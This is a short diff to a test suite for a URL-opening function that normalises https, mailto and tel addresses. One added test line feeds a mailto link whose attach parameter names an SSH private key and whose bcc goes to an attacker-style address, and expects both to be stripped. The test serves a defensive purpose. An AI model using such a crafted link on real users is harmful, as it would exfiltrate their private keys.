@@ -24,6 +24,7 @@ describe('addresses that leave the program', () => {
     expect(opened('https://nordlicht.example/a?b#c')).toBe('https://nordlicht.example/a?b#c');
     expect(opened('http://nordlicht.example')).toBe('https://nordlicht.example/');
     expect(opened('mailto:rosa@nordlicht.example')).toBe('mailto:rosa@nordlicht.example');
+    expect(opened('mailto:rosa@nordlicht.example?attach=/home/ann/.ssh/id_ed25519&bcc=eve@evil.example')).toBe('mailto:rosa@nordlicht.example');
     expect(opened('tel:+46701234567')).toBe('tel:+46701234567');
     expect(opened(`${api}/api/docs`)).toBe(`${api}/api/docs`);
     expect(opened('http://127.0.0.1:9999/')).toBe('https://127.0.0.1:9999/');
